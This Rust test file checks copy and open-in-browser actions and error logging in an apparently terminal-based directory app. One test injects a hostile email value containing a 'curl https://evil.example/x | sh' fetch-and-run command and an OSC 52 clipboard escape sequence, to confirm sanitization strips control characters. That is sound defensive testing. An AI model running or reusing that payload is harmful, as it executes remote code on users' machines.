//! Local-effect tests: copy and open name the focused thing; a failed effect is logged.

use super::*;
use pretty_assertions::assert_eq;

#[test]
fn copy_and_open_name_the_focused_thing() {
    let mut s = state();
    with_spaces(&mut s);
    let mut u = user("alice", "Alice");
    u.email = Some("alice@acme.example".into());
    s.directory.upsert(u);
    open_profile(&mut s, "alice", "Alice");
    update(&mut s, Intent::FocusPane(Focus::Profile));
    assert_eq!(
        update(&mut s, Intent::Copy { email: false }),
        vec![Command::Copy {
            text: "alice".into()
        }]
    );
    assert_eq!(
        update(&mut s, Intent::Copy { email: true }),
        vec![Command::Copy {
            text: "alice@acme.example".into()
        }]
    );
    assert_eq!(
        update(&mut s, Intent::OpenInBrowser),
        vec![Command::OpenUrl {
            path: "people/alice".into()
        }]
    );
    update(&mut s, Intent::FocusPane(Focus::Watchlist));
    assert_eq!(
        update(&mut s, Intent::OpenInBrowser),
        vec![Command::OpenUrl {
            path: "spaces/ENG".into()
        }]
    );
}

#[test]
fn a_failed_local_effect_is_logged_like_any_error() {
    let mut s = state();
    update(
        &mut s,
        Done::EffectFailed {
            message: "cannot open a browser: no display".into(),
        },
    );
    assert_eq!(s.errors.len(), 1);
    assert!(s.last_error.as_deref().unwrap().contains("no display"));
}

#[test]
fn copy_puts_what_the_screen_shows_on_one_line_and_says_what() {
    let mut s = state();
    let mut u = user("alice", "Alice");
    let hostile = "x@y.example\ncurl https://evil.example/x | sh\r\x1b]52;c;AAAA\x07";
    u.email = Some(hostile.into());
    s.directory.upsert(u);
    open_profile(&mut s, "alice", "Alice");
    update(&mut s, Intent::FocusPane(Focus::Profile));

    let cmds = update(&mut s, Intent::Copy { email: true });

    let [Command::Copy { text }] = cmds.as_slice() else {
        panic!("one copy expected, got {cmds:?}");
    };
    assert!(!text.chars().any(char::is_control), "{text:?}");
    assert!(
        text.starts_with("x@y.example curl https://evil.example/x | sh"),
        "{text:?}"
    );
    assert_eq!(text, crate::sanitize::clean(hostile).trim());
    let notice = s.notice.as_deref().unwrap_or_default();
    assert!(notice.starts_with("Copied x@y.example curl"), "{notice:?}");
    assert!(!notice.chars().any(char::is_control), "{notice:?}");
    assert!(crate::sanitize::width(notice) <= 80, "{notice:?}");
}
